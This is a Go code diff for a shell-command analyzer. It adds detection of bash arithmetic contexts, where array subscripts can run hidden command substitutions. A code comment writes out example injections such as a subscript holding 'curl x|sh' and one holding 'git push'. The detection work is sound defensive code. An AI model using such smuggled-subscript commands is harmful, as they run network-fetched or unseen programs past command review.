@@ -166,6 +166,18 @@ type analyzer struct {
 	segs   []*segment
 	funcs  map[string]bool
 	cdpath bool // the line may set CDPATH (mentionsCDPATH)
+	// files are the line and the bash -c scripts in it; tainted are the
+	// variables any of them (the first tainted of them) may set to a string:
+	// bash evaluating one as arithmetic runs the command substitutions in
+	// its array subscripts.
+	files   []srcFile
+	tainted map[string]bool
+	taintOf int
+}
+
+type srcFile struct {
+	src string
+	f   *syntax.File
 }
 
 // analyze splits cmd into every program it would run, starting in the
@@ -179,7 +191,9 @@ func analyze(cmd string, cwd cwdSet) ([]*segment, error) {
 		return nil, err
 	}
 	a := &analyzer{cdpath: mentionsCDPATH(cmd, f), segs: make([]*segment, 0, 8)}
+	a.files = append(a.files, srcFile{cmd, f})
 	a.stmts(cmd, f.Stmts, cwd, nil, 0)
+	a.arithmetic(cmd, f, cwd)
 	for _, s := range a.segs {
 		if s.opaque == "" && a.funcs[s.verb()] {
 			s.opaque = "calls the function " + s.verb() + " defined in the line"
@@ -622,7 +636,9 @@ func (a *analyzer) shell(s *segment, depth int) {
 		s.wraps = true
 		a.cdpath = a.cdpath || mentionsCDPATH(script.text, f)
 		before := len(a.segs)
+		a.files = append(a.files, srcFile{script.text, f})
 		a.stmts(script.text, f.Stmts, s.cwds, s.redirs, depth+1)
+		a.arithmetic(script.text, f, s.cwds)
 		for _, inner := range a.segs[before:] {
 			inner.assigns = append(append([]word(nil), s.assigns...), inner.assigns...)
 			inner.envSet = inner.envSet || s.envSet
@@ -652,6 +668,240 @@ func (a *analyzer) findExec(s *segment, depth int) {
 			i = j
 		}
 	}
+}
+
+// arithmetic appends an opaque segment when the line makes bash evaluate,
+// as arithmetic, a value the line may have set to a string, or a literal
+// subscript: bash expands the array subscripts in such a value and runs the
+// command substitutions in them, a program the line does not show
+// (for x in 'a[$(curl x|sh)]'; do ls $((x)); done runs curl and sh;
+// unset 'a[$(git push)]' runs git push).
+func (a *analyzer) arithmetic(src string, f *syntax.File, cwd cwdSet) {
+	if !strings.Contains(src, "[") && !strings.Contains(src, "((") && !strings.Contains(src, "let") &&
+		!strings.Contains(src, "${") && !strings.Contains(src, "declare") && !strings.Contains(src, "typeset") &&
+		!strings.Contains(src, "local") {
+		return // no arithmetic context and no subscript
+	}
+	if a.tainted == nil {
+		a.tainted = map[string]bool{}
+	}
+	// The variables the line, a script in it or the line around it may set
+	// to something other than an integer (exported, or set for bash -c).
+	for ; a.taintOf < len(a.files); a.taintOf++ {
+		a.taint(a.files[a.taintOf].src, a.files[a.taintOf].f)
+	}
+	risk, riskAt := "", ""
+	mark := func(n syntax.Node, why string) {
+		if risk == "" {
+			risk, riskAt = why, sourceOf(src, n)
+		}
+	}
+	// Where bash evaluates arithmetic, and what names it reads there.
+	check := func(ctx syntax.Node, exprs ...syntax.Node) {
+		for _, e := range exprs {
+			if e == nil || reflectNil(e) {
+				continue
+			}
+			syntax.Walk(e, func(n syntax.Node) bool {
+				var names []string
+				switch x := n.(type) {
+				case *syntax.Lit:
+					names = identifiers(x.Value)
+					if quotedCode(x.Value) {
+						mark(ctx, "a quoted command substitution evaluated as arithmetic")
+					}
+				case *syntax.ParamExp:
+					if x.Param != nil {
+						names = []string{x.Param.Value}
+					}
+				case *syntax.SglQuoted:
+					if quotedCode(x.Value) {
+						mark(ctx, "a quoted command substitution evaluated as arithmetic")
+					}
+				}
+				for _, name := range names {
+					if a.tainted[name] {
+						mark(ctx, "arithmetic on "+name+", which the line sets to a string, can run the commands in its subscripts")
+					}
+				}
+				return risk == ""
+			})
+		}
+	}
+	syntax.Walk(f, func(n syntax.Node) bool {
+		switch x := n.(type) {
+		case *syntax.ArithmExp:
+			check(x, x.X)
+		case *syntax.ArithmCmd:
+			check(x, x.X)
+		case *syntax.LetClause:
+			for _, e := range x.Exprs {
+				check(x, e)
+			}
+		case *syntax.CStyleLoop:
+			check(x, x.Init, x.Cond, x.Post)
+		case *syntax.ParamExp:
+			if x.Excl && x.Param != nil && a.tainted[x.Param.Value] {
+				mark(x, "${!"+x.Param.Value+"} names a variable the line sets to a string, whose subscript can run commands")
+			}
+			if x.Index != nil {
+				check(x, x.Index)
+			}
+			if x.Slice != nil {
+				check(x, x.Slice.Offset, x.Slice.Length)
+			}
+		case *syntax.Assign:
+			if x.Index != nil {
+				check(x, x.Index)
+			}
+		case *syntax.BinaryTest:
+			switch x.Op {
+			case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
+				check(x, x.X, x.Y)
+			}
+		case *syntax.UnaryTest:
+			if x.Op == syntax.TsVarSet {
+				check(x, x.X)
+			}
+		case *syntax.DeclClause:
+			integer := false
+			for _, as := range x.Args {
+				if as.Naked && as.Name == nil && as.Value != nil && strings.HasPrefix(decodeWord(src, as.Value).text, "-") &&
+					strings.Contains(decodeWord(src, as.Value).text, "i") {
+					integer = true
+				}
+			}
+			for _, as := range x.Args {
+				if integer && as.Value != nil && !as.Naked && !isIntegerWord(src, as.Value) {
+					mark(x, "declare -i evaluates its values as arithmetic")
+				}
+				if as.Value != nil && codeInSubscript(decodeWord(src, as.Value).text) {
+					mark(x, "a subscript holding a command substitution is evaluated")
+				}
+			}
+		case *syntax.CallExpr:
+			if len(x.Args) > 0 && evaluatesSubscripts[base(decodeWord(src, x.Args[0]).text)] {
+				for _, w := range x.Args[1:] {
+					if codeInSubscript(decodeWord(src, w).text) {
+						mark(x, "a subscript holding a command substitution is evaluated")
+					}
+				}
+			}
+		}
+		return risk == ""
+	})
+	if risk != "" {
+		a.segs = append(a.segs, &segment{text: riskAt, cwds: cwd, opaque: risk})
+	}
+}
+
+// taint records the variables a line may set to something other than an
+// integer: loop variables, assignments, ${x:=…}, and the names given to
+// read, printf -v, declare and the like.
+func (a *analyzer) taint(src string, f *syntax.File) {
+	syntax.Walk(f, func(n syntax.Node) bool {
+		switch x := n.(type) {
+		case *syntax.WordIter:
+			for _, it := range x.Items {
+				if !isIntegerWord(src, it) {
+					a.tainted[x.Name.Value] = true
+				}
+			}
+			if x.InPos == (syntax.Pos{}) {
+				a.tainted[x.Name.Value] = true // for x; do …: the arguments
+			}
+		case *syntax.Assign:
+			switch {
+			case x.Name != nil && (x.Array != nil || x.Value == nil && !x.Naked || x.Value != nil && !isIntegerWord(src, x.Value)):
+				a.tainted[x.Name.Value] = true
+			case x.Name != nil && x.Naked:
+				a.tainted[x.Name.Value] = true // declare -n x, read into x
+			case x.Name == nil && x.Value != nil:
+				a.tainted[strings.SplitN(decodeWord(src, x.Value).text, "=", 2)[0]] = true
+			}
+		case *syntax.ParamExp:
+			if x.Exp != nil && (x.Exp.Op == syntax.AssignUnset || x.Exp.Op == syntax.AssignUnsetOrNull) && x.Param != nil {
+				a.tainted[x.Param.Value] = true
+			}
+		case *syntax.CallExpr:
+			if len(x.Args) > 0 && setsVariables[base(decodeWord(src, x.Args[0]).text)] {
+				for _, w := range x.Args[1:] {
+					name, _, _ := strings.Cut(decodeWord(src, w).text, "=")
+					a.tainted[name] = true
+				}
+			}
+		}
+		return true
+	})
+}
+
+// setsVariables are the commands that set the variables their arguments
+// name (env and declare's forms when run as ordinary commands).
+var setsVariables = set("read", "mapfile", "readarray", "getopts", "printf", "env",
+	"declare", "typeset", "local", "export", "readonly")
+
+// evaluatesSubscripts are the builtins that evaluate an array subscript
+// written in their arguments.
+var evaluatesSubscripts = set("unset", "printf", "read", "mapfile", "readarray", "test", "[",
+	"getopts", "wait", "declare", "typeset", "local", "export", "readonly", "let")
+
+// quotedCode reports whether a literal holds a command substitution that
+// quoting or backslashes kept from running, until something evaluates it.
+func quotedCode(v string) bool {
+	v = strings.ReplaceAll(v, "\\", "")
+	return strings.Contains(v, "$(") || strings.Contains(v, "`")
+}
+
+func codeInSubscript(s string) bool {
+	i := strings.IndexByte(s, '[')
+	return i >= 0 && (strings.Contains(s[i:], "$(") || strings.Contains(s[i:], "`") || strings.Contains(s[i:], "${"))
+}
+
+func isIntegerWord(src string, w *syntax.Word) bool {
+	d := decodeWord(src, w)
+	t := strings.TrimLeft(d.text, "+-")
+	return d.static && isDigits(t)
+}
+
+// identifiers returns the shell names in an arithmetic literal.
+func identifiers(s string) []string {
+	var out []string
+	for i := 0; i < len(s); {
+		c := s[i]
+		if c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
+			j := i + 1
+			for j < len(s) && (s[j] == '_' || s[j] >= 'a' && s[j] <= 'z' || s[j] >= 'A' && s[j] <= 'Z' || s[j] >= '0' && s[j] <= '9') {
+				j++
+			}
+			out = append(out, s[i:j])
+			i = j
+			continue
+		}
+		if c >= '0' && c <= '9' { // 0x1f, 64#z: a number, not a name
+			for i < len(s) && (s[i] == '_' || s[i] == '#' || s[i] >= 'a' && s[i] <= 'z' || s[i] >= 'A' && s[i] <= 'Z' || s[i] >= '0' && s[i] <= '9') {
+				i++
+			}
+			continue
+		}
+		i++
+	}
+	return out
+}
+
+// reflectNil reports whether an interface holds a nil pointer, which
+// syntax.Walk must not be given.
+func reflectNil(n syntax.Node) bool {
+	switch x := n.(type) {
+	case *syntax.Word:
+		return x == nil
+	case *syntax.BinaryArithm:
+		return x == nil
+	case *syntax.UnaryArithm:
+		return x == nil
+	case *syntax.ParenArithm:
+		return x == nil
+	}
+	return false
 }
 
 // base returns the last element of a verb written as a path.
